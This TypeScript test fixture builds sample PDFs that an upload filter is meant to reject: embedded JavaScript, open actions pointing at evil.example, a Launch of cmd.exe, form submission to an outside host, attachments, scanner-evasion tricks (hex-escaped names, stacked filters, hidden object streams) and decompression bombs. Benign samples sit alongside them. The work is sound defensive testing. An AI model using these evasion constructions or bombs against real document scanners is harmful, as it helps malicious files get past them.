import { deflateSync } from 'node:zlib';

const ascii = (text: string) => Buffer.from(text, 'latin1');
const OPENS = '1 0 <</S /JavaScript /JS (app.alert(1))>>';

/** A PDF with these objects. */
export function pdf(objects: string | Buffer, { head = '%PDF-1.7\n', tail = '%%EOF\n' } = {}) {
  return Buffer.concat([ascii(head), Buffer.from(objects), ascii(`\ntrailer<<>>\n${tail}`)]);
}

/** A stream with this dictionary. */
function stream(
  dictionary: string,
  data: Buffer,
  { begins = '1 0 obj\n', keyword = 'stream\n' } = {},
) {
  return Buffer.concat([
    ascii(`${begins}<<${dictionary} /Length ${data.length}>>\n${keyword}`),
    data,
    ascii('\nendstream\nendobj\n'),
  ]);
}

/** Objects of a PDF as they are compressed. */
export function objectStream(text: string | Buffer, filter = '/Filter /FlateDecode'): Buffer {
  return stream(`/Type /ObjStm ${filter} /N 1 /First 4`, deflateSync(text));
}

/** The same without saying what it is: the place where a reader looks it up says so. */
function untyped(begins = '1 0 obj\n', entries = '/N 1 /First 4 /Filter /FlateDecode') {
  return stream(entries, deflateSync(OPENS), { begins });
}

function ascii85(data: Buffer): Buffer {
  let text = '';
  for (let at = 0; at < data.length; at += 4) {
    const four = data.subarray(at, at + 4);
    const padded = Buffer.concat([four, Buffer.alloc(4 - four.length)]);
    let rest = padded.readUInt32BE();
    const signs = Array.from({ length: 5 }, () => {
      const sign = String.fromCharCode(33 + (rest % 85));
      rest = Math.floor(rest / 85);
      return sign;
    });
    text += signs
      .reverse()
      .join('')
      .slice(0, four.length + 1);
  }
  return ascii(`${text}~>`);
}

/** Rows of `columns` bytes as PNG predictor 12 ("up") keeps them. */
function predicted(text: string, columns: number): Buffer {
  const plain = Buffer.concat([ascii(text), Buffer.alloc(columns - (text.length % columns), 32)]);
  const rows: Buffer[] = [];
  for (let at = 0; at < plain.length; at += columns) {
    const row = plain.subarray(at, at + columns);
    const above = at === 0 ? Buffer.alloc(columns) : plain.subarray(at - columns, at);
    rows.push(Buffer.from([2]), Buffer.from(row.map((byte, i) => byte - (above[i] ?? 0))));
  }
  return Buffer.concat(rows);
}

const lookup = (entries: string) =>
  stream(`/Type /XRef /Size 9 /W [1 2 1] /Root 2 0 R ${entries}`, deflateSync(Buffer.alloc(12)), {
    begins: '8 0 obj\n',
  });

/** PDFs that do something, hide something or ask for too much: refused wherever a document is taken. */
export const HOSTILE_PDFS: readonly (readonly [name: string, Buffer])[] = [
  ['script.pdf', pdf('1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj')],
  ['spelled-out.pdf', pdf('1 0 obj<</S /J#61vaScr#69pt /JS (app.alert(1))>>endobj')],
  ['spelled-in-capitals.pdf', pdf('1 0 obj<</S /#4AavaScript /JS 2 0 R>>endobj')],
  ['names.pdf', pdf('1 0 obj<</Names<</JavaScript<</Names[(a) 2 0 R]>>>>>>endobj')],
  ['compressed.pdf', pdf(objectStream(OPENS))],
  ['untyped.pdf', pdf(untyped())],
  ['untyped-with-lookup.pdf', pdf(Buffer.concat([untyped(), lookup('')]))],
  [
    'lookup-with-predictor.pdf',
    pdf(
      Buffer.concat([
        untyped(),
        lookup('/Filter /FlateDecode /DecodeParms <</Predictor 12 /Columns 4>>'),
      ]),
    ),
  ],
  ['line-in-head.pdf', pdf(untyped('1 0\nobj\n'))],
  ['comment-in-head.pdf', pdf(untyped('1 % 2 0 obj\n0 %x\nobj%\n'))],
  ['no-space-in-head.pdf', pdf(untyped('1 0 obj'))],
  ['inside-a-string.pdf', pdf(Buffer.concat([ascii('3 0 obj('), untyped(), ascii(')endobj')]))],
  ['inside-a-stream.pdf', pdf(stream('/Length 1', untyped('4 0 obj\n')))],
  [
    'obj-in-entries.pdf',
    pdf(untyped('1 0 obj\n', '/N 1 /First 4 /Filter /FlateDecode /X (9 0 obj <<>> stream\n)')),
  ],
  [
    'comment-before-stream.pdf',
    pdf(untyped('1 0 obj\n', '/N 1 /First 4 /Filter /FlateDecode %9 0 obj\n')),
  ],
  ['names-of-entries.pdf', pdf(untyped('1 0 obj\n', '/#4e 1 /F#69rst 4 /Filt#65r /FlateDecode'))],
  ['short-filter.pdf', pdf(untyped('1 0 obj\n', '/N 1 /First 4 /F /Fl'))],
  ['filter-list.pdf', pdf(untyped('1 0 obj\n', '/N 1 /First 4 /Filter [/FlateDecode]'))],
  [
    'filter-elsewhere.pdf',
    pdf(
      Buffer.concat([
        untyped('1 0 obj\n', '/N 1 /First 4 /Filter 5 0 R'),
        ascii('5 0 obj/FlateDecode endobj'),
      ]),
    ),
  ],
  [
    'first-elsewhere.pdf',
    pdf(
      Buffer.concat([
        untyped('1 0 obj\n', '/N 1 /First 6 0 R /Filter /FlateDecode'),
        ascii('6 0 obj 4 endobj'),
      ]),
    ),
  ],
  [
    'twice-filtered.pdf',
    pdf(stream('/N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]', ascii85(deflateSync(OPENS)))),
  ],
  [
    'hex-filtered.pdf',
    pdf(
      stream(
        '/N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]',
        ascii(`${deflateSync(OPENS).toString('hex')}>`),
      ),
    ),
  ],
  [
    'twice-compressed.pdf',
    pdf(
      stream('/N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(OPENS))),
    ),
  ],
  [
    'predicted.pdf',
    pdf(
      stream(
        '/N 1 /First 4 /Filter /FlateDecode /DecodeParms <</Predictor 12 /Columns 8>>',
        deflateSync(predicted(OPENS, 8)),
      ),
    ),
  ],
  [
    'lzw.pdf',
    pdf(
      stream(
        '/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode',
        Buffer.from('800b6050220c0c8501', 'hex'),
      ),
    ),
  ],
  ['nested.pdf', pdf(objectStream(Buffer.concat([ascii('1 0 '), untyped('').subarray(0)])))],
  [
    'added-later.pdf',
    Buffer.concat([
      pdf('1 0 obj<</Type/Catalog>>endobj'),
      ascii(
        '1 0 obj<</AA<</O 2 0 R>>>>endobj 2 0 obj<</S/URI/URI(https://evil.example)>>endobj\ntrailer<<>>\n%%EOF\n',
      ),
    ]),
  ],
  ['opens-an-address.pdf', pdf('1 0 obj<</OpenAction<</S/URI/URI(https://evil.example)>>>>endobj')],
  [
    'opens-another-object.pdf',
    pdf('1 0 obj<</OpenAction 2 0 R>>endobj\n2 0 obj<</S/URI/URI(https://evil.example)>>endobj'),
  ],
  [
    'opens-the-second-one.pdf',
    pdf(
      '1 0 obj<</OpenAction 2 0 R>>endobj\n2 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj\n2 %c\n0 obj<</S/URI/URI(https://evil.example)>>endobj',
    ),
  ],
  [
    'opens-a-compressed-one.pdf',
    pdf(
      Buffer.concat([
        ascii('1 0 obj<</OpenAction 2 0 R>>endobj\n'),
        objectStream('2 0 <</S/URI/URI(https://evil.example)>>'),
      ]),
    ),
  ],
  [
    'opens-by-detour.pdf',
    pdf(
      '1 0 obj<</OpenAction 2 0 R>>endobj\n2 0 obj 3 0 R endobj\n3 0 obj<</S/URI/URI(https://evil.example)>>endobj',
    ),
  ],
  [
    'goes-on.pdf',
    pdf('1 0 obj<</OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(//evil.example)>>>>>>endobj'),
  ],
  ['prints.pdf', pdf('1 0 obj<</OpenAction<</S/Named/N/Print>>>>endobj')],
  ['of-a-page.pdf', pdf('4 0 obj<</Type/Page/AA %c\n<</O<</S/URI/URI(//evil.example)>>>>>>endobj')],
  ['launch.pdf', pdf('1 0 obj<</S /Launch /F (cmd.exe)>>endobj')],
  ['other-file.pdf', pdf('1 0 obj<</S /GoToR /F (\\\\\\\\evil.example\\\\share)>>endobj')],
  ['inside-file.pdf', pdf('1 0 obj<</S /GoToE /D [0 /Fit]>>endobj')],
  ['attachment.pdf', pdf('1 0 obj<</Type /EmbeddedFile>>endobj')],
  ['pinned.pdf', pdf('1 0 obj<</Subtype /FileAttachment /FS 2 0 R>>endobj')],
  ['untyped-attachment.pdf', pdf('1 0 obj<</F (a.exe) /EF <</F 2 0 R>>>>endobj')],
  ['film.pdf', pdf('1 0 obj<</Subtype /RichMedia>>endobj')],
  ['form.pdf', pdf('1 0 obj<</XFA 2 0 R>>endobj')],
  ['sends.pdf', pdf('1 0 obj<</S /SubmitForm /F (https://evil.example)>>endobj')],
  ['imports.pdf', pdf('1 0 obj<</S /ImportData /F (a.fdf)>>endobj')],
  ['locked.pdf', pdf('1 0 obj<<>>endobj', { tail: 'trailer<</Encrypt 2 0 R>>\n%%EOF\n' })],
  ['object-bomb.pdf', pdf(objectStream(Buffer.alloc(50_000_000)))],
  [
    'many-bombs.pdf',
    pdf(
      Buffer.concat(Array.from({ length: 5 }, () => objectStream(Buffer.alloc(8_000_000, '1 0 ')))),
    ),
  ],
  ['unreadable-objects.pdf', pdf(objectStream('1 0 <<>>').fill('x', 90))],
  ['deep.pdf', pdf(`1 0 obj${'['.repeat(500_000)}`)],
  ['endless-strings.pdf', pdf('obj('.repeat(500_000))],
  ['overlapping.pdf', pdf('1 0 obj<<'.repeat(200_000))],
];

/** PDFs as programs make them. */
export const ORDINARY_PDFS: readonly (readonly [name: string, Buffer])[] = [
  ['with compressed objects', pdf(objectStream('1 0 <</Type /Page /Annots []>>'))],
  [
    'of LibreOffice, which opens at its first page',
    pdf(
      '9 0 obj\n<</Type/Catalog/Pages 8 0 R\n/OpenAction[1 0 R /XYZ null null 0]\n/Lang(en-PH)\n>>\nendobj\n',
    ),
  ],
  [
    'of pdfTeX, which goes to its first page',
    pdf(
      Buffer.concat([
        ascii('5 0 obj\n<< /S /GoTo /D [6 0 R /Fit] >>\nendobj\n'),
        objectStream(
          '9 0 <</Type/Catalog/Pages 8 0 R/Outlines 4 0 R/OpenAction 5 0 R/PTEX.Fullbanner(x)>>',
        ),
        stream(
          '/Type /XRef /W [1 2 1] /Filter /FlateDecode /DecodeParms <</Predictor 12 /Columns 4>>',
          deflateSync(predicted('abcdefgh', 4)),
          { begins: '12 0 obj\n' },
        ),
      ]),
    ),
  ],
  [
    'linearized',
    pdf(
      Buffer.concat([
        ascii(
          '%\xe2\xe3\xcf\xd3\n7 0 obj\n<</Linearized 1/L 9/O 9/E 9/N 1/T 9/H [1 2]>>\nendobj\n8 0 obj\n<</OpenAction 10 0 R/Type/Catalog>>\nendobj\n10 0 obj\n<</D[9 0 R/Fit]/S/GoTo>>\nendobj\n',
        ),
        stream('/Filter /FlateDecode /I 92 /S 38', deflateSync(Buffer.alloc(40)), {
          begins: '11 0 obj\n',
          keyword: 'stream\r\n',
        }),
        ascii('xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 7>>\nstartxref\n0\n%%EOF\n'),
      ]),
    ),
  ],
  [
    'with pages in ASCII85',
    pdf(
      stream('/Filter [ /ASCII85Decode /FlateDecode ]', ascii85(deflateSync('BT (obj /JS) Tj ET'))),
    ),
  ],
  [
    'with links and an outline',
    pdf(
      '3 0 obj<</Subtype/Link/A<</S/URI/URI(https://lawphil.net)>>>>endobj\n4 0 obj<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>endobj\n5 0 obj<</Title(One)/A<</S/GoTo/D[3 0 R/Fit]>>>>endobj',
    ),
  ],
  [
    'with a form to fill in',
    pdf(
      '2 0 obj<</AcroForm<</Fields[3 0 R]/DA(/Helv 0 Tf 0 g)/NeedAppearances true>>>>endobj\n3 0 obj<</FT/Tx/T(Name)/AP<</N 4 0 R>>>>endobj',
    ),
  ],
  [
    'saved again',
    Buffer.concat([
      pdf('1 0 obj<</Type/Catalog/OpenAction 5 0 R>>endobj\n5 0 obj[3 0 R/FitH null]endobj'),
      ascii('5 0 obj[4 0 R/FitH null]endobj\ntrailer<</Prev 9>>\n%%EOF\n'),
    ]),
  ],
  [
    'with a picture that looks like anything',
    pdf(`1 0 obj<<>>stream\n/JS ${'\xff'.repeat(9)} /AA PK\x05\x06 endstream`),
  ],
];
